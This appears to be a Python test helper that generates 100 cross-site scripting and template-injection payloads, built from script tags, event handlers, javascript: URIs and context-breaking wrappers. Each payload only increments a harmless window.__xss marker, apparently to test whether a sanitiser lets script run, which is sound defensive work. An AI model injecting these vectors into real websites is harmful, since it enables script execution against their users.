"""A hundred ways to have a text run as a script. Each would raise ``window.__xss``, and leaves an element that can be found."""

from itertools import cycle, islice

RUN = "window.__xss=(window.__xss||0)+1"
MARK = "data-xss=1"
WAYS = [
    f"<script {MARK}>{RUN}</script>",
    f"</script><script {MARK}>{RUN}</script>",
    f"<img {MARK} src=x onerror='{RUN}'>",
    f"<svg {MARK} onload='{RUN}'>",
    f"<svg {MARK}><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<iframe {MARK} srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe {MARK} src='javascript:parent.{RUN}'></iframe>",
    f"<a {MARK} href='javascript:{RUN}' autofocus onfocus='{RUN}'>klik</a>",
    f"<details {MARK} open ontoggle='{RUN}'>",
    f"<input {MARK} autofocus onfocus='{RUN}'>",
    f"<video {MARK}><source onerror='{RUN}'></video>",
    f"<body {MARK} onload='{RUN}'>",
    f"<math {MARK}><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<object {MARK} data='javascript:{RUN}'></object>",
    f"<style {MARK}>@import 'javascript:{RUN}';</style>",
    f"<noscript><p title=\"</noscript><img {MARK} src=x onerror='{RUN}'>\">",
    f"<template><img></template><img {MARK} src=x onerror='{RUN}'>",
    f"javascript:{RUN}//",
    f"data:text/html,<script {MARK}>{RUN}</script>",
    "${" + RUN + "}",
    "{{constructor.constructor('" + RUN + "')()}}",
    "{% for x in [1] %}{{ x.__class__ }}{% endfor %} {{ 7*7 }}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`;{RUN};//",
]
WRAPS = ["{0}", "\"'>{0}", "]]>-->{0}", "</title></textarea></style>{0}"]
PAYLOADS = [wrap.replace("{0}", way) for wrap in WRAPS for way in WAYS]
assert len(set(PAYLOADS)) == 100  # said here once, for whoever adds one


def spread(n):
    """All payloads over n texts: each stands in one of them at least."""
    return ["P" + " ".join(islice(cycle(PAYLOADS), r, max(len(PAYLOADS), n), n)) for r in range(n)]
